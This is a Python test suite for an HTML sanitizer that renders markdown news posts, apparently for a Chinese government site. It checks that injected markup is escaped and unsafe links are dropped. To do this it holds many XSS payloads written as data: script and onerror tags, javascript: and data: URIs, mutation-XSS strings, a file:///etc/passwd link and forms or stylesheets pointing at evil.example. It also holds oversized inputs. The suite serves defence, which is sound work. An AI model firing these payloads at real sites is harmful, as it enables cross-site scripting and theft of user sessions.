"""What is written of a piece of news, made HTML: what it does to no reader, and what is left of it."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.home.news.writing import ATTRIBUTES, ELEMENTS, harmless

Tag = tuple[str, dict[str, str | None]]
OUR_OWN = {"a": {"rel"}, "table": {"tabindex"}, "pre": {"tabindex"}}
LEADS_OUT = re.compile(r"(https?://[^/?#@\\]+([/?#].*)?|mailto:.+)", re.IGNORECASE)
MARKS = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"  # of direction


class Seen(HTMLParser):
    """What a browser makes of HTML: its elements, and the text that is read."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[Tag] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data}")


def of(text: str) -> Seen:
    return Seen(harmless(text))


def links(seen: Seen) -> list[str | None]:
    return [attributes.get("href") for tag, attributes in seen.tags if tag == "a"]


def strange(seen: Seen) -> list[Tag]:
    """The elements that no news has, those with an attribute that none has, and links that lead nowhere or inside."""
    allowed = {tag: ATTRIBUTES.get(tag, set()) | OUR_OWN.get(tag, set()) for tag in ELEMENTS}
    found = [(tag, more) for tag, more in seen.tags if tag not in allowed or set(more) - allowed[tag]]
    return found + [("a", {"href": one}) for one in links(seen) if one is None or not LEADS_OUT.fullmatch(one)]


# ---- scripts ---------------------------------------------------------------------------------------------------------

ELEMENTS_OF_OTHERS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert`1`>",
    "<iframe src=https://evil.example/></iframe>",
    '<style>@import "https://evil.example/x.css"</style>',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    '<base href="https://evil.example/">',
    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    "<form action=https://evil.example/><input name=csrf_token></form>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext></mtext><mglyph><style></math><img src onerror=alert(1)>",
    '<a href="javascript:alert(1)" onclick="alert(2)">x</a>',
    '<a href="https://evil.example/" style="position:fixed;inset:0">x</a>',
    '<div id="main" class="dialog">x</div>',
    "<!-- x --><![CDATA[<img src=x onerror=alert(1)>]]><?php x ?><!DOCTYPE html>",
]
AROUND = {
    "a line": "{}",
    "a heading": "# {}",
    "a nested list": "> > - 1. {}",
    "a table": "| {} |\n| --- |\n| {} |",
    "bold": "**{}**",
    "a link": "[{}](https://www.fujian.gov.cn/)",
    "a title": '[x](https://www.fujian.gov.cn/ "{}")',
    "a picture": "![{}](https://www.fujian.gov.cn/x.png)",
    "code": "`{}`",
    "a block": "```{}\n{}\n</code></pre>{}\n```",
}


@pytest.mark.parametrize("around", AROUND.values(), ids=AROUND)
def test_an_element_that_is_typed_is_read_as_typed_and_is_none(around):
    for element in ELEMENTS_OF_OTHERS:
        assert strange(of(around.replace("{}", element))) == [], element
    assert "<script>alert(1)</script>" in of(f"甲 {ELEMENTS_OF_OTHERS[0]}").text


@pytest.mark.parametrize(
    "text", ["&lt;script&gt;x", "&#60;script&#62;x", "&#x3c;script&#x3E;x", "&LT;script&GT;x", "\\<script>x"]
)
def test_an_element_in_other_letters_is_none_either(text):
    assert (of(text).tags, of(text).text) == ([("p", {})], "<script>x\n")


# ---- links -----------------------------------------------------------------------------------------------------------

NO_ADDRESS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript&#58;alert(1)",
    "java&#x73;cript&colon;alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "&#1;javascript:alert(1)",
    "\\javascript:alert(1)",
    "javascript://%0aalert(1)",
    "<javascript:alert(1)>",
    "vbscript:x",
    "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/png;base64,iVBORw0KGgo=",
    "data:image/svg+xml;base64,PHN2Zz4=",
    "file:///etc/passwd",
    "blob:https://evil.example/1",
    "//evil.example/",
    "/\\evil.example/",
    "http:/\\evil.example/",
    "https:evil.example",
    "https://www.fujian.gov.cn@evil.example/",
    "https:///evil.example",
    "www.fujian.gov.cn",
    "/logout/",
    "?status=draft",
    "#main",
    "mailto:",
    "ftp://evil.example/",
]


@pytest.mark.parametrize("address", NO_ADDRESS)
def test_what_is_no_address_leads_nowhere_and_stays_as_typed(address):
    for text in (f"[甲]({address})", f'[甲](<{address}> "乙")', f"<{address}>", f"[甲][丁]\n\n[丁]: {address}"):
        seen = of(text)
        assert (links(seen), strange(seen)) == ([], []), text
    assert of(f"[甲]({address})").text.startswith("[甲](")


@pytest.mark.parametrize(
    ("text", "address"),
    [
        ("[甲](https://www.fujian.gov.cn/)", "https://www.fujian.gov.cn/"),
        ("[甲](HTTP://www.fujian.gov.cn)", "HTTP://www.fujian.gov.cn"),
        ("[甲](https://rst.fujian.gov.cn:8443/a(b)?c=1&d=2#e)", "https://rst.fujian.gov.cn:8443/a(b)?c=1&d=2#e"),
        ("<https://rst.fujian.gov.cn/a@b>", "https://rst.fujian.gov.cn/a@b"),
        ("<zc@example.cn>", "mailto:zc@example.cn"),
        ("[甲](https://福建.中国/通知)", "https://xn--b0tq50d.xn--fiqs8s/%E9%80%9A%E7%9F%A5"),
    ],
)
def test_an_address_is_a_link_that_tells_the_other_side_nothing(text, address):
    (link,) = [more for tag, more in of(text).tags if tag == "a"]
    assert (link["href"], link["rel"]) == (address, "noopener noreferrer nofollow")


# ---- pictures --------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("![外图](https://evil.example/p.png)", "外图"),
        ('![外图](https://evil.example/p.png "题")', "外图"),
        ("![](https://evil.example/p.png)", ""),
        ("![外 ![内](https://evil.example/b.png)](https://evil.example/c.png)", "外 内"),
        ("![**粗** `码`](https://evil.example/p.png)", "粗 码"),
        ("![<b>](https://evil.example/p.png)", "<b>"),
    ],
)
def test_of_a_picture_only_its_words_are_left(text, left):
    seen = of(text)
    assert (seen.tags, seen.text.strip()) == ([("p", {})], left)


def test_a_link_around_a_picture_leads_on():
    assert links(of("[![图](https://evil.example/p.png)](https://www.fujian.gov.cn/)")) == [
        "https://www.fujian.gov.cn/"
    ]


# ---- how it reads ----------------------------------------------------------------------------------------------------


def test_marks_of_direction_are_gone_however_they_were_typed():
    typed, entities = ("".join(f"甲{form(mark)}乙" for mark in MARKS) for form in (str, lambda mark: f"&#{ord(mark)};"))
    assert of(f"{typed}\n\n`{typed}`\n\n{entities}").text.split() == ["甲乙" * len(MARKS)] * 3


@pytest.mark.parametrize(
    ("text", "tags"),
    [
        ("# 一\n## 二\n### 三", ["h2", "h3", "h4"]),
        ("## 一\n### 二\n## 三", ["h2", "h3", "h2"]),
        ("###### 一", ["h2"]),
        ("# 一\n###### 六", ["h2", "h6"]),
    ],
)
def test_headings_begin_below_that_of_the_page(text, tags):
    assert [tag for tag, _more in of(text).tags] == tags


def test_a_line_ends_where_it_was_ended():
    assert harmless("甲\n乙\n\n丙") == "<p>甲<br>\n乙</p>\n<p>丙</p>\n"


def test_chinese_blanks_before_a_line_stay():
    assert harmless("　　甲\n　　　　乙") == "<p>　　甲<br>\n　　　　乙</p>\n"


def test_a_line_of_chinese_blanks_begins_a_paragraph():
    assert harmless("甲\n　　\n乙") == "<p>甲</p>\n<p>乙</p>\n"


@pytest.mark.parametrize("before", ["    ", "\t", "        "])
def test_a_line_that_is_moved_in_is_no_code(before):
    assert harmless(f"{before}甲") == "<p>甲</p>\n"


def test_numbers_of_a_table_stand_as_it_says():
    cells = [
        (tag, more.get("align")) for tag, more in of("|a|b|c|\n|---|--:|:-:|\n|1|2|3|").tags if tag in ("th", "td")
    ]
    assert cells == [(tag, align) for tag in ("th", "td") for align in (None, "right", "center")]


# ---- how large it gets -----------------------------------------------------------------------------------------------

MUCH = {
    "one address, often": "[a]: https://x.example/" + "b" * 50_000 + "\n\n" + "[a]" * 16_000,
    "many addresses": "".join(f"[{n}]: https://x.example/\n" for n in range(3_000)) + "[1][2]" * 3_000,
    "nested quotes": "".join(">" * n + "a\n" for n in range(445)),
    "nested lists": "".join("  " * n + "- a\n" for n in range(315)),
    "a wide table": "|" * 25_000 + "\n" + "|-" * 25_000 + "|\n" + "|\n" * 12_000,
    "a high table": "a|b\n-|-\n" + "|\n" * 49_000,
    "pictures": "![[" * 33_000,
    "addresses": "<a@b.c>" * 14_000,
    "signs": "&<>" * 33_000,
    "bold": "*_" * 50_000,
}


@pytest.mark.parametrize("text", MUCH.values(), ids=MUCH)
def test_a_text_made_to_grow_grows_to_a_small_multiple_of_itself(text):
    assert len(harmless(text)) < 20 * 100_000


# ---- anything --------------------------------------------------------------------------------------------------------

PIECES = [
    *("[", "](", ")", "![", "<", ">", "`", "```\n", "**", "_", "~~", "|", "\n", "\n\n", " ", "    ", "\\", '"', "'"),
    *("# ", "- ", "1. ", "> ", "|-|-|\n", "&#", ";", "&lt;", "&colon;", "&Tab;", "\u3000", "\ue000", "\u202e", "]:"),
    *("javascript:", "data:text/html,", "https://", "evil.example", "//", "@", "mailto:", "a", "通知", "：", "\x00"),
    *("<script>", "</script>", "<img src=x onerror=", "<a href=", "<!--", "-->", "<![CDATA[", "<svg/onload=", "style="),
]


@settings(max_examples=400, deadline=None, derandomize=True)
@given(st.lists(st.sampled_from(PIECES), max_size=40).map("".join))
def test_whatever_is_written_has_only_what_news_may_have(text):
    seen = of(text)
    assert strange(seen) == []
    assert not set(MARKS) & set(seen.text)
